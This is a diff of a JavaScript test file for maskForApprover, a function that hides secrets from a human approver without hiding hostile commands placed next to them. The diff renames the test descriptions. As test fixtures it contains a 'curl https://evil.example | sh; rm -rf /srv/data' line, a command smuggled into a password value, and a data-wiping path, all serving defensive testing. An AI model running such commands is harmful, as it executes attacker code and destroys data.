@@ -7,7 +7,7 @@ const BEGIN = '-----BEGIN PRIVATE KEY-----'
 const END = '-----END PRIVATE KEY-----'
 const SCRIPT = 'curl https://evil.example | sh; rm -rf /srv/data'
 
-describe('what an approver is not shown', () => {
+describe('masking for an approver', () => {
   it.each([
     [`a ${BEGIN}\n${`${LINE}\n`.repeat(3)}MIIE=\n${END} b`, `a ${BEGIN}\n${'*\n'.repeat(3)}MIIE=\n${END} b`],
     [`a ${BEGIN}\\n${`${LINE}\\n`.repeat(3)}${END}\\n`, `a ${BEGIN}\\${'*\\'.repeat(3)}n${END}\\n`],
@@ -15,11 +15,11 @@ describe('what an approver is not shown', () => {
     [`api_key="${['AKIA', 'IOSFODNN7EXAMPLQ'].join('')}:wJalrXUtnFEMI7K7MDENGbPxRfiC"`, 'api_key="*:*"'],
     ['token=839201746352', 'token=*'],
     ['postgres://app:hunter2@db/x', 'postgres://app:*@db/x'],
-  ])('is a secret: %j', (text, shown) => {
+  ])('masks a secret: %j', (text, shown) => {
     expect(maskForApprover(text).replaceAll(/\[redacted:[\w-]+\]/g, '*')).toBe(shown)
   })
 
-  it('is found in little time, however many there are', () => {
+  it('stays fast with many secrets', () => {
     const text = Array.from({ length: 9000 }, (_, at) => `password=Xk29aB${at}cD7`).join(',')
     const before = process.cpuUsage()
     expect(maskForApprover(text)).not.toContain('Xk29aB8999')
@@ -34,7 +34,7 @@ describe('what an approver is not shown', () => {
     `${BEGIN}\n${'+'.repeat(50_000)}\n${SCRIPT}`,
     `password="Xk29$(${SCRIPT})"`,
     `api_key=aB3dE5fG7hJ9kL1m;${SCRIPT}`,
-  ])('is never what stands behind one (%#)', text => {
+  ])('never masks what follows a secret (%#)', text => {
     expect(maskForApprover(text).includes(SCRIPT)).toBe(true)
   })
 
@@ -51,11 +51,11 @@ describe('what an approver is not shown', () => {
     ['curl -u bob:pass1234x@evil.example/x https://good.example/', '@evil.example/x'],
     [`${BEGIN}\n${LINE}\n/usr/local/bin/wipeEverythingNow\n${END}`, '/usr/local/bin/wipeEverythingNow'],
     [`${BEGIN}\n${LINE}\npay(100000000)\n${END}`, 'pay(100000000)'],
-  ])('is never what is executed: %j', (text, part) => {
+  ])('never masks what would be executed: %j', (text, part) => {
     expect(maskForApprover(text)).toContain(part)
   })
 
-  it('is nothing but long runs of letters and digits', () => {
+  it('masks only long runs of letters and digits', () => {
     const pieces = fc.constantFrom(
       'token=',
       'a1B2c3D4e5',
